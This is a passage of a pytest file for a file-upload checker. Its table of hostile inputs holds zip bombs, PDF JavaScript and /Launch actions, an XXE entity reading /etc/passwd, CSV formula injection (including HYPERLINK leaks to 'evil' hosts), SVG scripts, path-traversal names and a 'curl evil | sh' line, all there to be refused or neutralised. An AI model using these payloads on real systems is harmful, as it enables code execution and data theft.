"""Tests for egress.files.checks: the automatic checks a file goes through before checkers see it.

The core is ``HOSTILE``, a table written out by hand: one row per hostile (or tricky-but-fine)
input, with how it is built and the expected outcome (refused with a message containing X,
neutralised, sanitised, accepted). The same table is documented in docs/checker-file-checks.md.
Every row is also run through the outputs folder (written to a temporary outputs folder, listed,
read and checked) to show that checking loses nothing: the folder is unchanged afterwards.
"""

from __future__ import annotations

import bz2
import csv
import dataclasses
import functools
import gzip
import hashlib
import io
import json
import lzma
import os
import struct
import tarfile
import xml.etree.ElementTree as ET
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from egress.files import pdf as pdf_checks
from egress.files.checks import (
    DEFAULT_POLICY,
    EXTENSIONS,
    CheckPolicy,
    FileCheckResult,
    FileKind,
    FlaggedCell,
    check_file,
    is_formula,
)
from havre.enclave.outputs_folder import OutputPathError, read_output, scan_outputs
from tests.hypothesis_budget import examples
from tests.unit.source_imports import imported_packages

MiB = 1024 * 1024

# --- builders ------------------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*extra_chunks: bytes, width: int = 2, height: int = 2) -> bytes:
    """A real (decodable) RGB PNG; ``extra_chunks`` go between IHDR and IDAT."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + b"".join(extra_chunks)
        + png_chunk(b"IDAT", zlib.compress(raw))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(*app_segments: bytes) -> bytes:
    """A minimal baseline 8x8 greyscale JPEG (one block, DC 0, EOB), built by hand."""
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one Huffman code of length 1, for symbol 0
    return (
        b"\xff\xd8"
        + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + b"".join(app_segments)
        + jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
        + jpeg_segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
        + jpeg_segment(0xC4, b"\x00" + one_code)
        + jpeg_segment(0xC4, b"\x10" + one_code)
        + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f\xff\x00\x3f"  # entropy-coded data, with a stuffed 0xFF00
        + b"\xff\xd9"
    )


def pdf(catalog_extra: bytes = b"", *objects: bytes) -> bytes:
    """A minimal one-page PDF; ``objects`` are added as objects 4, 5, ... (bodies only)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
        *objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return out


def pdf_stream(dictionary: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(body), body)


def pdf_object_stream(inner: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream holding object 9 = ``inner``, compressed unless ``filters`` is empty."""
    content = b"9 0 " + inner
    body = zlib.compress(content) if b"Flate" in filters else content
    return pdf_stream(b"/Type /ObjStm /N 1 /First 4 " + filters, body)


SVG_OPEN = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="10" height="10"'
)


def svg(inner: bytes = b'<rect width="10" height="10" fill="red"/>', attrs: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG_OPEN + attrs + b">" + inner + b"</svg>\n"
    )


MATPLOTLIB_SVG = (
    b'<?xml version="1.0" encoding="utf-8" standalone="no"?>\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
    b'  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    + SVG_OPEN
    + b' version="1.1">\n <defs><linearGradient id="g"/></defs>\n'
    b' <rect fill="url(#g)" width="10" height="10"/>\n <use xlink:href="#g"/>\n'
    b' <image href="data:image/png;base64,iVBORw0KGgo="/>\n</svg>\n'
)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>\n'
)

XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>\n'
)


def notebook(*cells: dict, nbformat: int = 4) -> bytes:
    document = {
        "cells": list(cells),
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": nbformat,
        "nbformat_minor": 5,
    }
    return (json.dumps(document, indent=1, sort_keys=True) + "\n").encode()


def code_cell(source: str = "print(1)", *outputs: dict) -> dict:
    return {
        "cell_type": "code",
        "execution_count": 1 if outputs else None,
        "id": "c1",
        "metadata": {},
        "outputs": list(outputs),
        "source": source,
    }


def display(data: dict) -> dict:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def markdown_cell(source: str) -> dict:
    return {"cell_type": "markdown", "id": "m1", "metadata": {}, "source": source}


@functools.cache
def zip_bomb() -> bytes:
    """64 MiB of zeros, deflated to about 64 KiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("data.csv", b"0" * (64 * MiB))
    return buffer.getvalue()


def small_zip(name: str = "x.csv", content: bytes = b"a,b\n1,2\n") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def tar_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("x.csv")
        info.size = 8
        archive.addfile(info, io.BytesIO(b"a,b\n1,2\n"))
    return buffer.getvalue()


def deep_json(depth: int) -> bytes:
    return b'{"nbformat": 4, "cells": [], "x": ' + b"[" * depth + b"]" * depth + b"}"


CSV = b"region,n,mean\nNorth,12,-3.5\nSouth,40,+2\n"


# --- the hostile input table ---------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Row:
    """One hostile (or tricky) input: how it's built and what must happen to it."""

    id: str
    name: str
    build: Callable[[], bytes]
    outcome: str  # refused | neutralised | sanitised | accepted
    message: str = ""  # must appear in the problems (refused) or changes (neutralised/sanitised)
    policy: CheckPolicy = DEFAULT_POLICY


def bytes_of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


R = Row
B = bytes_of
SMALL = CheckPolicy(max_file_bytes=1000, max_csv_cells=10, max_line_bytes=64)
REFUSE = CheckPolicy(csv_injection="refuse", svg="refuse")

# fmt: off
HOSTILE: list[Row] = [
    # -- archives, compressed files, executables and other binary formats
    R("zip-bomb-named-csv", "table.csv", zip_bomb, "refused", "content is a zip archive"),
    R("xlsx-is-a-zip", "table.xlsx", B(small_zip("[Content_Types].xml")), "refused", "xlsx"),
    R("gzip-named-csv", "table.csv", B(gzip.compress(CSV)), "refused", "gzip-compressed"),
    R("bzip2-named-txt", "notes.txt", B(bz2.compress(CSV)), "refused", "bzip2-compressed"),
    R("xz-named-csv", "table.csv", B(lzma.compress(CSV)), "refused", "xz-compressed"),
    R("tar-named-txt", "notes.txt", tar_archive, "refused", "tar archive"),
    R("7z-named-csv", "t.csv", B(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)), "refused", "7-Zip"),
    R("rar-named-png", "p.png", B(b"Rar!\x1a\x07\x01\x00" + bytes(40)), "refused", "RAR"),
    R("zstd-named-csv", "t.csv", B(b"\x28\xb5\x2f\xfd" + bytes(20)), "refused", "zstd"),
    R("elf-named-txt", "notes.txt", B(b"\x7fELF\x02\x01\x01" + bytes(60)), "refused", "ELF"),
    R("pe-named-pdf", "r.pdf", B(b"MZ\x90\x00\x03" + bytes(60) + b"PE\0\0"), "refused", "(MZ)"),
    R("shebang-named-txt", "run.txt", B(b"#!/bin/sh\ncurl evil | sh\n"), "refused", "'#!'"),
    R("ole2-xls-named-csv", "t.csv", B(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)),
      "refused", "OLE2"),
    R("sqlite-named-csv", "t.csv", B(b"SQLite format 3\x00" + bytes(100)), "refused", "SQLite"),
    R("utf16-csv", "t.csv", B(CSV.decode().encode("utf-16")), "refused", "NUL byte"),
    # -- polyglots, and data hidden after the end of an image
    R("png-with-zip-appended", "plot.png", B(png() + small_zip()), "refused", "polyglot"),
    R("png-with-zip-in-chunk", "plot.png", B(png(png_chunk(b"prVt", small_zip()))),
      "refused", "zip local file header"),
    R("png-trailing-data", "plot.png", B(png() + b"secret table"),
      "refused", "after its end (the IEND chunk)"),
    R("png-truncated", "plot.png", B(png()[:-6]), "refused", "truncated"),
    R("png-bad-crc", "plot.png", B(png()[:-1] + b"\x00"), "refused", "bad checksum"),
    R("jpeg-trailing-data", "photo.jpg", B(jpeg() + b"hidden"),
      "refused", "after its end (the EOI marker"),
    R("jpeg-with-zip-appended", "photo.jpg", B(jpeg() + small_zip()), "refused", "polyglot"),
    R("pdf-javascript", "r.pdf", B(pdf(b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
      "refused", "JavaScript"),
    R("pdf-hex-escaped-js", "r.pdf", B(pdf(b" /OpenAction << /S /J#61vaScript /J#53 (x) >>")),
      "refused", "JavaScript"),
    R("pdf-javascript-in-objstm", "r.pdf",
      B(pdf(b"", pdf_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"))),
      "refused", "JavaScript"),
    R("pdf-js-after-fake-stream", "r.pdf",
      B(pdf(b"", b"<< /Title (>> stream\n) >>", b"<< /S /JavaScript /JS (x) >>",
            pdf_stream(b"", b"BT ET"))),
      "refused", "JavaScript"),
    R("pdf-js-hidden-by-short-length", "r.pdf",
      B(pdf(b"", b"<< /Length 5 >>\nstream\nhello\nendobj 7 0 obj << /S /JavaScript /JS (x) >>"
                 b" endobj\nendstream")),
      "refused", "JavaScript"),
    R("pdf-js-after-unterminated-stream", "r.pdf",
      B(pdf(b"", b"<< /Length 5 >>\nstream\nhello\n", b"<< /S /JavaScript /JS (x) >>")),
      "refused", "JavaScript"),
    R("pdf-launch", "r.pdf", B(pdf(b" /OpenAction << /S /Launch /F (calc.exe) >>")),
      "refused", "/Launch"),
    R("pdf-embedded-file", "r.pdf", B(pdf(b"", pdf_stream(b"/Type /EmbeddedFile", b"id\n1\n"))),
      "refused", "embedded file"),
    R("pdf-objstm-unreadable-filter", "r.pdf",
      B(pdf(b"", pdf_object_stream(b"<< >>", b"/Filter [/ASCIIHexDecode /FlateDecode]"))),
      "refused", "can't read"),
    R("pdf-encrypted", "r.pdf", B(pdf(b" /Encrypt 5 0 R")), "refused", "encryption"),
    # -- wrong extensions
    R("png-named-csv", "table.csv", B(png()), "refused", "content is PNG but the name says .csv"),
    R("csv-named-png", "plot.png", B(CSV), "refused", "content is text, not PNG"),
    R("pdf-named-txt", "notes.txt", B(pdf()), "refused", "content is PDF but the name says .txt"),
    R("csv-named-exe", "table.exe", B(CSV), "refused", ".exe is not on the allow-list"),
    R("csv-double-ext", "table.csv.exe", B(CSV), "refused", ".exe is not on the allow-list"),
    R("no-extension", "table", B(CSV), "refused", "without an extension"),
    R("svg-named-txt", "plot.txt", B(svg()), "refused", "content is SVG but the name says .txt"),
    R("notebook-named-txt", "nb.txt", B(notebook(code_cell())),
      "refused", "content is a Jupyter notebook but the name says .txt"),
    # -- sizes, empty files, encodings
    R("empty-file", "table.csv", B(b""), "refused", "empty file"),
    R("oversized", "table.csv", B(b"a\n" + b"1\n" * 600),
      "refused", "larger than the limit of 1000 bytes", SMALL),
    R("oversized-default", "t.txt", B(b"x\n" * (10 * MiB + 1)),
      "refused", f"larger than the limit of {20 * MiB} bytes"),
    R("non-utf8-csv", "t.csv", B("name,town\nJos\xe9,Li\xe8ge\n".encode("latin-1")),
      "refused", "first invalid byte at byte offset 13"),
    R("nul-in-csv", "t.csv", B(b"a,b\n1,\x002\n"), "refused", "NUL byte at byte offset 6"),
    R("ansi-escape-in-txt", "log.txt", B(b"ok\n\x1b[2J\x1b]0;owned\x07\n"),
      "refused", "control character U+001B on line 2"),
    R("bidi-in-csv-cell", "t.csv", B("id,n\n1,\u202e21\n".encode()),
      "refused", "bidirectional control character U+202E"),
    # -- names (havre.enclave.outputs_folder checks them again when reading)
    R("traversal-name", "../x.csv", B(CSV), "refused", "'..' component"),
    R("traversal-inside-name", "a/../../x.csv", B(CSV), "refused", "'..' component"),
    R("absolute-name", "/etc/passwd.csv", B(CSV), "refused", "absolute path"),
    R("fullwidth-solidus-name", "a\uff0fb.csv", B(CSV), "refused", "FULLWIDTH SOLIDUS"),
    R("bidi-override-name", "evil\u202eexe.csv", B(CSV), "refused", "bidirectional control"),
    R("zero-width-name", "ta\u200bble.csv", B(CSV), "refused", "ZERO WIDTH SPACE"),
    R("cyrillic-lookalike-name", "t\u0430ble.csv", B(CSV),
      "refused", "mixes Cyrillic and Latin letters"),
    # -- CSV structure and limits
    R("huge-single-row", "t.csv", B(b"a,b\n" + b"x" * (MiB + 1) + b",y\n"),
      "refused", f"line 2 is {MiB + 3} bytes long, more than the limit of {MiB} bytes"),
    R("too-many-cells", "t.csv", B(b"a,b\n" + b"1,2\n" * 5), "refused", "more than 10 cells",
      SMALL),
    R("ragged-csv", "t.csv", B(b"a,b\n1,2\n1,2,3\n"), "refused", "row 3 has 3 fields"),
    R("bad-quoting-csv", "t.csv", B(b'a,b\n"1"x,2\n'), "refused", "not a valid CSV file"),
    R("ragged-tsv", "t.tsv", B(b"a\tb\n1\n"), "refused", "not a valid TSV file: row 2"),
    # -- CSV injection ("neutralise" is the default policy)
    R("csv-hyperlink", "t.csv", B(b'a,b\n"=HYPERLINK(""http://evil/?""&A1,""x"")",1\n'),
      "neutralised", "quote: row 2"),
    R("csv-plus-cmd", "t.csv", B(b"a,b\n+cmd|' /C calc'!A0,1\n"), "neutralised", "quote: row 2"),
    R("csv-at-sum", "t.csv", B(b"a,b\n1,@SUM(1+9)*cmd|' /C calc'!A0\n"),
      "neutralised", "quote: row 2"),
    R("csv-minus-formula", "t.csv", B(b"a,b\n-2+3,1\n"), "neutralised", "quote: row 2"),
    R("csv-tab-equals", "t.csv", B(b"a,b\n\t=1,2\n"), "neutralised", "quote: row 2"),
    R("csv-cr-equals", "t.csv", B(b'a,b\n"\r=1",2\n'), "neutralised", "quote: row 2"),
    R("csv-fullwidth-equals", "t.csv", B("a,b\n\uff1d1+1,2\n".encode()),
      "neutralised", "quote: row 2"),
    R("csv-space-then-equals", "t.csv", B(b"a,b\n =1+1,2\n"), "neutralised", "quote: row 2"),
    R("tsv-equals", "t.tsv", B(b"a\tb\n=1+2\t3\n"), "neutralised", "quote: row 2"),
    R("csv-negative-numbers", "t.csv", B(b'x,y,z,w\n-3.5,-1e5,+2,-\n-12%,"-1,234.5",.5,1\n'),
      "accepted"),
    R("csv-injection-refused", "t.csv", B(b"a,b\n=1+2,@SUM(A1)\n"),
      "refused", "row 2, column 1: '=1+2'", REFUSE),
    # -- HTML and active content in text
    R("html-named-txt", "notes.txt", B(b"<!DOCTYPE html>\n<p>hi</p>\n"),
      "refused", "content is HTML"),
    R("html-fragment-named-csv", "t.csv", B(b"<table><tr><td>1</td></tr></table>\n"),
      "refused", "content is HTML"),
    R("script-inside-txt", "notes.txt", B(b"results\n<script>alert(1)</script>\n"),
      "refused", "<script> tag on line 2"),
    R("xhtml-named-svg", "x.svg", B(b'<html xmlns="http://www.w3.org/1999/xhtml"/>'),
      "refused", "HTML"),
    R("markdown-javascript-link", "r.md", B(b"# R\n[click](javascript:alert(1))\n"),
      "refused", "script URL"),
    R("markdown-onerror", "r.md", B(b"# R\n<img src=x onerror=alert(1)>\n"),
      "refused", "event-handler"),
    # -- SVG ("sanitise" is the default policy)
    R("svg-script", "p.svg", B(svg(b"<script>alert(1)</script><rect/>")),
      "sanitised", "<script> element"),
    R("svg-onload", "p.svg", B(svg(attrs=b' onload="alert(1)"')), "sanitised", "onload="),
    R("svg-external-image", "p.svg", B(svg(b'<image href="https://evil/track.png"/>')),
      "sanitised", "not a local #fragment"),
    R("svg-external-use", "p.svg", B(svg(b'<use xlink:href="https://evil/s.svg#x"/>')),
      "sanitised", "<use> element: it uses an external file"),
    R("svg-javascript-link", "p.svg", B(svg(b'<a href=" java\tscript:alert(1)"><rect/></a>')),
      "sanitised", "not a local #fragment"),
    R("svg-foreign-object", "p.svg",
      B(svg(b'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>')),
      "sanitised", "<foreignObject> element"),
    R("svg-style-url", "p.svg", B(svg(b"<style>rect{fill:url(https://evil/x)}</style><rect/>")),
      "sanitised", "<style> element: it loads an external resource"),
    R("svg-animate-href", "p.svg",
      B(svg(b'<a><set attributeName="href" to="javascript:alert(1)"/><rect/></a>')),
      "sanitised", "animates the href attribute"),
    R("svg-stylesheet-pi", "p.svg",
      B(svg().replace(b"?>\n", b'?>\n<?xml-stylesheet href="https://evil/s.css"?>\n', 1)),
      "sanitised", "processing instruction"),
    R("svg-billion-laughs", "p.svg", B(BILLION_LAUGHS), "refused", "declares entities"),
    R("svg-xxe", "p.svg", B(XXE), "refused", "declares entities"),
    R("svg-doctype-subset", "p.svg", B(b"<!DOCTYPE svg [ ]>\n" + SVG_OPEN + b"/>"),
      "refused", "DOCTYPE declaration"),
    R("svg-script-refused", "p.svg", B(svg(b"<script>alert(1)</script>")),
      "refused", "refused by policy", REFUSE),
    R("svg-not-svg-root", "p.svg", B(b'<plot xmlns="urn:x"/>'), "refused", "root element"),
    R("svg-too-deep", "p.svg", B(svg(b"<g>" * 300 + b"</g>" * 300)), "refused", "nested"),
    # -- notebooks
    R("ipynb-javascript-output", "nb.ipynb",
      B(notebook(code_cell("x", display({"application/javascript": "alert(1)"})))),
      "refused", "application/javascript"),
    R("ipynb-html-script-output", "nb.ipynb",
      B(notebook(code_cell("x", display({"text/html": ["<div>", "<script>x()</script>"]})))),
      "refused", "text/html content with an HTML <script> tag"),
    R("ipynb-markdown-script", "nb.ipynb", B(notebook(markdown_cell("<script>x()</script>"))),
      "refused", "markdown cell 1"),
    R("ipynb-nbformat-3", "nb.ipynb", B(notebook(nbformat=3)), "refused", "nbformat 3"),
    R("ipynb-not-json", "nb.ipynb", B(b"{not json"), "refused", "not a valid notebook"),
    R("ipynb-deeply-nested", "nb.ipynb", B(deep_json(100_000)), "refused", "notebook"),
    # -- accepted, released byte for byte
    R("valid-csv", "table.csv", B(CSV), "accepted"),
    R("valid-csv-bom-crlf", "table.csv", B(b"\xef\xbb\xbfa,b\r\n1,2\r\n"), "accepted"),
    R("valid-csv-semicolons", "table.csv", B(b"a;b\n1,5;2\n"), "accepted"),
    R("valid-tsv", "table.tsv", B(b"a\tb\n1\t-2\n"), "accepted"),
    R("valid-png", "plot.png", B(png()), "accepted"),
    R("valid-jpeg", "photo.jpg", B(jpeg()), "accepted"),
    R("valid-jpeg-exif-thumbnail", "photo.jpeg",
      B(jpeg(jpeg_segment(0xE1, b"Exif\x00\x00" + jpeg()))), "accepted"),
    R("valid-pdf", "report.pdf", B(pdf()), "accepted"),
    R("valid-pdf-js-only-in-text", "report.pdf",
      B(pdf(b" /Title (about /JavaScript and /Launch)", pdf_stream(b"", b"/JS 1 Tf"))),
      "accepted"),
    R("valid-markdown", "README.md", B(b"# Results\n\nTable 1 shows *counts*.\n"), "accepted"),
    R("valid-text", "notes.txt", B(b"Counts rounded to 5.\n"), "accepted"),
    R("valid-ipynb", "analysis.ipynb",
      B(notebook(code_cell("1+1", display({"text/plain": "2"})), markdown_cell("# Notes"))),
      "accepted"),
    R("valid-svg", "plot.svg", B(svg()), "accepted"),
    R("valid-matplotlib-svg", "plot.svg", B(MATPLOTLIB_SVG), "accepted"),
]
# fmt: on


def test_the_hostile_table_is_big_and_has_unique_ids():
    assert len(HOSTILE) >= 35
    assert len({row.id for row in HOSTILE}) == len(HOSTILE)
    assert {row.outcome for row in HOSTILE} == {"refused", "neutralised", "sanitised", "accepted"}
    for kind in FileKind:
        assert any(
            row.id.startswith("valid-") and kind.value in _kind_words(row) for row in HOSTILE
        )


def _kind_words(row: Row) -> str:
    ext = "." + row.name.rsplit(".", 1)[-1]
    return EXTENSIONS[ext].value


@pytest.mark.parametrize("row", HOSTILE, ids=[row.id for row in HOSTILE])
def test_hostile_input(row: Row):
    data = row.build()
    result = check_file(row.name, data, row.policy)

    assert result.outcome == row.outcome, (result.problems, result.changes)
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert result.size == len(data)
    assert result.name == row.name
    if row.outcome == "refused":
        assert not result.ok
        assert result.release_bytes is None and result.release_sha256 is None
        assert result.problems and all(isinstance(p, str) and p for p in result.problems)
        assert row.message in " ".join(result.problems)
        assert result.changes == []
        return
    assert result.ok and result.problems == []
    assert result.release_bytes is not None
    assert result.release_sha256 == hashlib.sha256(result.release_bytes).hexdigest()
    if row.outcome == "accepted":
        assert result.release_bytes == data  # byte for byte
        assert result.release_sha256 == result.sha256
        assert result.changes == []
        return
    assert result.release_bytes != data
    assert result.changes and row.message in " ".join(result.changes)
    again = check_file(row.name, result.release_bytes, row.policy)  # idempotent
    assert again.outcome == "accepted", (again.problems, again.changes)
    assert again.kind is result.kind


def _writable_name(name: str) -> str | None:
    if "/" in name or name in ("", ".", ".."):
        return None
    return name


def _snapshot(root: Path) -> dict[bytes, tuple]:
    state = {}
    for dirpath, dirnames, filenames in os.walk(os.fsencode(root)):
        for entry in dirnames + filenames:
            path = os.path.join(dirpath, entry)
            info = os.lstat(path)
            content = open(path, "rb").read() if os.path.isfile(path) else None  # noqa: SIM115
            state[path] = (info.st_mode, info.st_size, info.st_mtime_ns, info.st_ino, content)
    return state


#: rows whose name can exist in a folder (the others are only ever requested names)
IN_FOLDER = [row for row in HOSTILE if _writable_name(row.name) is not None]


@pytest.mark.parametrize("row", IN_FOLDER, ids=[row.id for row in IN_FOLDER])
def test_hostile_input_loses_nothing_in_the_outputs_folder(row: Row, tmp_path):
    """Written to an outputs folder, listed, read and checked: the folder is unchanged."""
    name = _writable_name(row.name)
    assert name is not None
    root = tmp_path / "outputs"
    root.mkdir()
    (root / "keep.csv").write_bytes(CSV)
    data = row.build()
    (root / name).write_bytes(data)
    os.utime(root / name, ns=(1_000_000_000, 1_000_000_000))
    before = _snapshot(root)

    listing = scan_outputs(root)
    try:
        read = read_output(root, name, max_bytes=row.policy.max_file_bytes)
    except OutputPathError as error:
        assert row.outcome == "refused", error.reason
    else:
        assert read == data
        assert name in {entry.path for entry in listing.entries}
    result = check_file(name, data, row.policy)

    assert result.outcome == row.outcome
    assert _snapshot(root) == before
    assert (root / name).read_bytes() == data


def test_checks_never_touch_the_filesystem(monkeypatch):
    """check_file is pure: with every way of opening a file broken, every row still checks."""

    def refuse(*args, **kwargs):
        raise AssertionError("file_checks tried to open a file")

    monkeypatch.setattr(os, "open", refuse)
    monkeypatch.setattr("builtins.open", refuse)
    monkeypatch.setattr(io, "open", refuse)
    for row in HOSTILE:
        if row.id == "zip-bomb-named-csv":
            continue  # built with zipfile, which opens nothing but is slow to rebuild
        assert check_file(row.name, row.build(), row.policy).outcome == row.outcome, row.id


def test_a_zip_bomb_is_refused_without_being_opened(monkeypatch):
    data = zip_bomb()
    assert len(data) < MiB

    def refuse(*_args, **_kwargs):
        raise AssertionError("file_checks decompressed something")

    for module, name in ((zipfile, "ZipFile"), (zlib, "decompress"), (zlib, "decompressobj")):
        monkeypatch.setattr(module, name, refuse)
    result = check_file("table.csv", data)
    assert result.outcome == "refused"
    assert "archives and compressed files are refused" in result.problems[0]


# --- CSV injection: neutralise and refuse --------------------------------------------------


def test_neutralise_reports_every_changed_cell_and_row():
    rows = [["id", "formula", "n"]] + [[str(i), "ok", str(i)] for i in range(2, 11)]
    rows[1][1] = "=1+1"  # row 2
    rows[4][2] = "+cmd"  # row 5
    rows[8][0] = "@SUM(A1)"  # row 9
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    result = check_file("t.csv", buffer.getvalue().encode())

    assert result.outcome == "neutralised"
    assert result.changes[0] == (
        "neutralised 3 cells starting with '=', '+', '-', '@', tab or carriage return by "
        "prefixing a single quote: rows 2, 5, 9"
    )
    assert result.flagged_cells == [
        FlaggedCell(2, 2, "=1+1"),
        FlaggedCell(5, 3, "+cmd"),
        FlaggedCell(9, 1, "@SUM(A1)"),
    ]
    released = list(csv.reader(io.StringIO(result.release_bytes.decode())))
    assert released[1][1] == "'=1+1" and released[4][2] == "'+cmd" and released[8][0] == "'@SUM(A1)"
    expected = [list(r) for r in rows]
    expected[1][1], expected[4][2], expected[8][0] = "'=1+1", "'+cmd", "'@SUM(A1)"
    assert released == expected


def test_neutralise_rewrites_only_the_rows_it_changes():
    data = b'\xef\xbb\xbf"id","text"\r\n"1","plain, quoted"\r\n2,"=HYPERLINK(""x"")"\r\n3,"a\r\nb"'
    result = check_file("t.csv", data)
    assert result.outcome == "neutralised"
    assert result.release_bytes == (
        b'\xef\xbb\xbf"id","text"\r\n"1","plain, quoted"\r\n2,"\'=HYPERLINK(""x"")"\r\n3,"a\r\nb"'
    )


def test_neutralise_keeps_the_delimiter_and_quotes_cells_that_need_it():
    result = check_file("t.csv", b"a;b\n=1;x\n")
    assert result.release_bytes == b"a;b\n'=1;x\n"
    result = check_file("t.tsv", b'a\tb\n"\t=1"\t2\n')
    assert result.release_bytes == b'a\tb\n"\'\t=1"\t2\n'


def test_refuse_lists_row_column_and_the_first_twenty_characters():
    long_formula = '=HYPERLINK("http://evil.example/?leak="&A1)'
    data = f'name,link\nx,"{long_formula.replace(chr(34), chr(34) * 2)}"\n'.encode()
    result = check_file("t.csv", data, REFUSE)
    assert result.outcome == "refused"
    assert "CSV injection" in result.problems[0]
    assert f"row 2, column 2: {long_formula[:20]!r}" in result.problems[0]
    assert long_formula[:21] not in result.problems[0]
    assert result.flagged_cells == [FlaggedCell(2, 2, long_formula[:20])]


@pytest.mark.parametrize(
    "cell",
    ["-3.5", "-1e5", "+2", "-0", "1e-3", "-.5", "-12%", "-1,234.5", "-", "+1E+10", "3", "abc", ""],
)
def test_numbers_and_plain_text_are_not_formulas(cell):
    assert not is_formula(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "=1",
        "-2+3",
        "+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "-A1",
        "--1",
        "-inf",
        "+",
        "=",
        "\uff1d1",
        "\uff0bcmd",
        "\uff0d1",
        "\uff20SUM(A1)",
        "-1-1",
        "-3.5.1",
        "- 3",
    ],
)
def test_formulas(cell):
    assert is_formula(cell)


csv_cells = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs", "Cc"),
        blacklist_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069<",
    )
    | st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "1", "."]),
    max_size=12,
)


@settings(max_examples=examples(300), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=st.integers(1, 6).flatmap(
        lambda width: st.lists(
            st.lists(csv_cells, min_size=width, max_size=width), min_size=1, max_size=8
        )
    ),
    ending=st.sampled_from(["\n", "\r\n"]),
)
def test_neutralising_changes_exactly_the_formula_cells(rows, ending):
    # Python's csv writer leaves a lone "\r" unquoted when the line ending is "\n".
    assume(ending == "\r\n" or not any("\r" in cell for row in rows for cell in row))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=ending).writerows(rows)
    data = buffer.getvalue().encode()
    result = check_file("t.csv", data)
    assert result.ok, result.problems
    released = list(csv.reader(io.StringIO(result.release_bytes.decode(), newline="")))
    original = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert len(released) == len(original)
    for before, after in zip(original, released, strict=True):
        assert after == ["'" + c if is_formula(c) else c for c in before]
    assert not any(is_formula(c) for row in released for c in row)
    assert result.changed == any(is_formula(c) for row in original for c in row)
    assert check_file("t.csv", result.release_bytes).outcome == "accepted"


# --- SVG -----------------------------------------------------------------------------------


def test_sanitised_svg_keeps_the_drawing_and_drops_every_active_part():
    hostile = svg(
        b'<script>alert(1)</script><g onclick="x()"><rect width="5" fill="url(#g)"/>'
        b'<a xlink:href="javascript:alert(1)"><text>label</text></a>tail</g>'
        b'<image xlink:href="data:image/png;base64,iVBORw0KGgo="/>'
